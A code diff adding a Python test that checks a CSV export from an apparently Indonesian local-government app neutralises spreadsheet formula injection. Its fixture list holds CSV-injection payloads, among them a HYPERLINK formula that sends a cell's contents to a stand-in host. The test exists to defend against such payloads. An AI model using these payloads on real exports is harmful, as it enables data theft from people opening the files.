@@ -59,3 +59,46 @@ def test_a_forged_attachment_name_is_sent_as_one_slug_with_its_own_extension(cli
     assert r.status_code == 200
     assert _satu_nama_berkas(r.headers["Content-Disposition"], "pdf") == \
         "renja2-filename-utf-8-laporan-html-x.pdf"
+
+
+# ---------------------------------------------------------------- CSV: no cell a spreadsheet can split off starts a formula
+
+PEMICU = ("=", "+", "-", "@", "\t", "\r")
+REKOMENDASI_CSV = ['Catatan,=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "Catatan;+1+1", "Catatan\t-2+3",
+                   'Catatan\n@SUM(A1:A2)', 'Catatan, "=1+1"', "Catatan,\t=1+1", "=awal"]
+
+
+def _bagian_berbahaya(sel: str) -> bool:
+    """A cell (or a part of one) a spreadsheet would read as a formula: it starts, after spaces and quotes, with a
+    formula's first character, and is not a plain number."""
+    isi = sel.lstrip(' "')
+    return isi.startswith(PEMICU) and re.fullmatch(r"[-+]?[\d.,]+", isi.strip()) is None
+
+
+def test_a_csv_download_read_with_comma_semicolon_or_split_naively_starts_no_formula(client, demo):
+    import csv
+    import io
+    from datetime import date
+
+    from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
+    from tests.fabrik import kantor, pengguna
+
+    with session_scope(demo) as s:
+        catat_evaluasi_lengkap(s, kecamatan_id=kantor(s).id, jenis="evaluasi", tahun=2025, triwulan=2,
+                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=pengguna(s, peran="tim"),
+                               rekomendasi=[RekomendasiBaru(t, "kasi_pem", date(2025, 8, 30)) for t in REKOMENDASI_CSV])
+    masuk(client, nama_pengguna("camat"))
+    teks = client.get("/unduh/tl-daftar.csv?tahun=2025&triwulan=2").data.decode("utf-8-sig")
+    baris = list(csv.reader(io.StringIO(teks), delimiter=";"))
+    kolom = baris[0].index("Rekomendasi")
+    # Every text field is quoted; read as written, each recommendation comes back whole, only its parts neutralised.
+    assert all(b.startswith('"') for b in teks.split("\r\n") if b)
+    dibaca = sorted(b[kolom] for b in baris[1:])
+    assert dibaca == sorted([
+        "Catatan,'=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\")", "Catatan;'+1+1", "Catatan\t'-2+3",
+        "Catatan\n'@SUM(A1:A2)", "Catatan, \"'=1+1\"", "Catatan,'\t'=1+1", "'=awal"])
+    for pemisah in (",", ";", "\t"):
+        for b in csv.reader(io.StringIO(teks), delimiter=pemisah):
+            assert not [sel for sel in b if _bagian_berbahaya(sel)], (pemisah, b)
+    for bagian in re.split(r"[,;\t\r\n]", teks):  # a reader that splits on every separator and line, quotes or not
+        assert not _bagian_berbahaya(bagian), bagian
